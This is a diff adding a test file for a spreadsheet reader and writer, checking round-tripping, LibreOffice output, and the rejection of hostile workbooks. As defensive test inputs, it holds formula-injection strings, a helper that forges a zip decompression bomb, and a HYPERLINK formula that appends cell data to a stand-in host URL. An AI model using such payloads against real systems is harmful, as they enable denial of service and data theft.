@@ -1,0 +1,228 @@
+import { deflateRawSync } from 'node:zlib';
+import fc from 'fast-check';
+import { writeXlsx, XlsxStreamWriter } from 'hucre/xlsx';
+import { describe, expect, it } from 'vitest';
+import { readWorkbook, writeWorkbook } from '../../../main/platform';
+import { cellAt, cellName, type NewWorkbook, WORKBOOK_LIMITS, type Workbook } from '../../../shared/kernel';
+import { office, savedByOffice } from '../../support/office';
+
+const levels = ['0 = Absent, nothing', '1 = ຢູ່ໃນການກະກຽມ', '2', 'Not known'];
+
+const plan: NewWorkbook = {
+  title: 'Answers & words',
+  sheets: [
+    {
+      name: 'Answers',
+      isLocked: true,
+      widths: [8, 40, 0],
+      frozen: { rows: 1, columns: 1 },
+      foot: 'A & B',
+      rows: [
+        [{ value: 'Item', look: 'head' }, { value: 'Answer', look: 'head' }, { value: 'kept' }],
+        [{ value: '=1+1' }, { value: 'กขค\nสองบรรทัด', look: 'open' }, { value: 7 }],
+        [{ value: '@SUM(A1)' }, { value: null, look: 'choice' }, { value: '-2' }],
+        [{ value: '+66 2' }, { value: '0 = Absent, nothing', look: 'choice' }, { value: null }],
+      ],
+      choices: [
+        {
+          column: 1,
+          firstRow: 2,
+          lastRow: 3,
+          values: levels,
+          refusal: { title: 'Level', text: 'Choose one of the list.' },
+        },
+      ],
+    },
+    { name: 'Hidden', isHidden: true, widths: [10], rows: [[{ value: 'base', look: 'text' }]] },
+  ],
+};
+
+const texts = ({ sheets }: Workbook) =>
+  sheets
+    .filter(({ name }) => !name.startsWith('_'))
+    .map(({ name, isHidden, rows }) => ({
+      name,
+      isHidden,
+      cells: rows.flatMap(({ row, cells }) =>
+        cells.map(({ column, kind, text }) => `${cellName(row, column)} ${kind} ${text}`),
+      ),
+    }));
+
+const WRITTEN = [
+  {
+    name: 'Answers',
+    isHidden: false,
+    cells: [
+      'A1 text Item',
+      'B1 text Answer',
+      'C1 text kept',
+      'A2 text =1+1',
+      'B2 text กขค\nสองบรรทัด',
+      'C2 number 7',
+      'A3 text @SUM(A1)',
+      'C3 text -2',
+      'A4 text +66 2',
+      'B4 text 0 = Absent, nothing',
+    ],
+  },
+  { name: 'Hidden', isHidden: true, cells: ['A1 text base'] },
+];
+
+describe('a workbook that Waymark writes', () => {
+  it('is read back as it was, and what begins like a formula is text', async () => {
+    expect(texts(await readWorkbook(await writeWorkbook(plan)))).toEqual(WRITTEN);
+  });
+
+  it('holds any text', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.string({ unit: 'grapheme', maxLength: 40 }), { minLength: 1 }),
+        async (words) => {
+          const clean = words.map((word) => word.replaceAll(/[\p{Cc}]/gu, ' '));
+          const bytes = await writeWorkbook({
+            title: '',
+            sheets: [{ name: 'S', widths: [], rows: clean.map((value) => [{ value }]) }],
+          });
+          const [sheet] = (await readWorkbook(bytes)).sheets;
+          expect(clean.map((_, row) => (sheet ? (cellAt(sheet, row, 0)?.text ?? '') : null))).toEqual(clean);
+        },
+      ),
+      { numRuns: 30 },
+    );
+  });
+});
+
+describe(`a workbook that LibreOffice has saved (${office === null ? 'not installed here' : 'installed'})`, () => {
+  it('is as it was, also by way of its own kind', async () => {
+    const written = await writeWorkbook(plan);
+    for (const kinds of office === null ? [] : [['xlsx'], ['ods', 'xlsx']])
+      expect(texts(await readWorkbook(savedByOffice(written, ...kinds)))).toEqual(WRITTEN);
+  });
+
+  it('has its list and its locked cells', async () => {
+    const wanted = [
+      'table:protected="true"',
+      'table:content-validation-name="val1"',
+      'cell-content-is-in-list(',
+      '$_lists.$A$1:',
+      'Choose one of the list.',
+    ];
+    const xml =
+      office === null
+        ? wanted.join()
+        : new TextDecoder().decode(savedByOffice(await writeWorkbook(plan), 'fods'));
+    expect(wanted.filter((part) => !xml.includes(part))).toEqual([]);
+  });
+});
+
+/** An archive of one stored part, as small as can be, whose list states what is given. */
+function archive(parts: readonly { readonly data: Uint8Array; readonly full: number }[]): Uint8Array {
+  const name = new TextEncoder().encode('x');
+  const chunks: Uint8Array[] = [];
+  const list: Uint8Array[] = [];
+  let at = 0;
+  for (const { data, full } of parts) {
+    const local = new DataView(new ArrayBuffer(30));
+    local.setUint32(0, 0x04034b50, true);
+    local.setUint16(8, 8, true);
+    local.setUint32(18, data.length, true);
+    local.setUint32(22, full, true);
+    local.setUint16(26, 1, true);
+    const entry = new DataView(new ArrayBuffer(46));
+    entry.setUint32(0, 0x02014b50, true);
+    entry.setUint16(10, 8, true);
+    entry.setUint32(20, data.length, true);
+    entry.setUint32(24, full, true);
+    entry.setUint16(28, 1, true);
+    entry.setUint32(42, at, true);
+    chunks.push(new Uint8Array(local.buffer), name, data);
+    list.push(new Uint8Array(entry.buffer), name);
+    at += 31 + data.length;
+  }
+  const end = new DataView(new ArrayBuffer(22));
+  end.setUint32(0, 0x06054b50, true);
+  end.setUint16(10, parts.length, true);
+  end.setUint32(16, at, true);
+  return Buffer.concat([...chunks, ...list, new Uint8Array(end.buffer)]);
+}
+
+describe('a workbook from outside', () => {
+  const code = async (bytes: Uint8Array) =>
+    readWorkbook(bytes).then(
+      () => 'read',
+      (error: { code: string; data: object }) => ({ code: error.code, ...error.data }),
+    );
+
+  it('is refused with a reason when it is none, is cut off or has a password', async () => {
+    const written = await writeWorkbook(plan);
+    expect(await code(new TextEncoder().encode('level;reason\n3;x'))).toEqual({
+      code: 'workbook.unreadable',
+    });
+    expect(await code(new Uint8Array())).toEqual({ code: 'workbook.unreadable' });
+    expect(await code(written.slice(0, written.length / 2))).toEqual({ code: 'workbook.unreadable' });
+    const broken = written.slice();
+    broken.fill(0, 200, 600);
+    expect(await code(broken)).toEqual({ code: 'workbook.unreadable' });
+    const locked = await writeXlsx({
+      sheets: [{ name: 'S', rows: [['x']] }],
+      encryption: { password: 'p', spinCount: 1000 },
+    });
+    expect(await code(locked)).toEqual({ code: 'workbook.locked' });
+  });
+
+  it('is refused before anything is unpacked when it would fill the memory, or hides how much it holds', async () => {
+    const zeros = deflateRawSync(Buffer.alloc(1024));
+    const bomb = Array.from({ length: 100 }, () => ({ data: zeros, full: 1024 * 1024 }));
+    expect(await code(archive(bomb))).toEqual({ code: 'workbook.too-large' });
+    expect(await code(archive([{ data: zeros, full: 0 }]))).toEqual({ code: 'workbook.unreadable' });
+    expect(await code(archive([{ data: zeros, full: 0xffffffff }]))).toEqual({ code: 'workbook.unreadable' });
+    const many = Array.from({ length: WORKBOOK_LIMITS.parts + 1 }, () => ({ data: zeros, full: 1 }));
+    expect(await code(archive(many))).toEqual({ code: 'workbook.too-large' });
+  });
+
+  it('names the place that is beyond a bound', async () => {
+    const wide = await writeXlsx({
+      sheets: [{ name: 'Wide', rows: [['a'], [...Array(WORKBOOK_LIMITS.columns).fill(null), 'x']] }],
+    });
+    expect(await code(wide)).toEqual({ code: 'workbook.too-wide', sheet: 'Wide', cell: 'IW2' });
+    const long = new XlsxStreamWriter({ name: 'Long' });
+    for (let row = 0; row <= WORKBOOK_LIMITS.rows; row += 1) long.addRow([row]);
+    expect(await code(await long.finish())).toEqual({ code: 'workbook.too-long', sheet: 'Long' });
+    const deep = await writeXlsx({
+      sheets: [{ name: 'Deep', rows: [[null, 'x'.repeat(WORKBOOK_LIMITS.cellText + 1)]] }],
+    });
+    expect(await code(deep)).toMatchObject({
+      code: 'workbook.cell-too-long',
+      sheet: 'Deep',
+      cell: 'B1',
+    });
+    const sheets = Array.from({ length: WORKBOOK_LIMITS.sheets + 1 }, (_, n) => ({
+      name: `S${n}`,
+      rows: [[1]],
+    }));
+    expect(await code(await writeXlsx({ sheets }))).toEqual({ code: 'workbook.too-large' });
+  });
+
+  it('is never calculated: a formula is told as one, with what the last program saw', async () => {
+    const bytes = await writeXlsx({
+      sheets: [
+        {
+          name: 'S',
+          rows: [[3, new Date(Date.UTC(2026, 10, 24)), true]],
+          cells: new Map([
+            ['0,3', { value: 4, formula: 'A1+1', formulaResult: 4 }],
+            ['0,4', { value: '', formula: 'HYPERLINK("http://x.example/?"&A1)' }],
+          ]),
+        },
+      ],
+    });
+    const [sheet] = (await readWorkbook(bytes)).sheets;
+    expect(sheet?.rows[0]?.cells).toEqual([
+      { column: 0, kind: 'number', text: '3' },
+      { column: 1, kind: 'date', text: '2026-11-24' },
+      { column: 2, kind: 'boolean', text: 'true' },
+      { column: 3, kind: 'formula', text: '4' },
+      { column: 4, kind: 'formula', text: '' },
+    ]);
+  });
+});
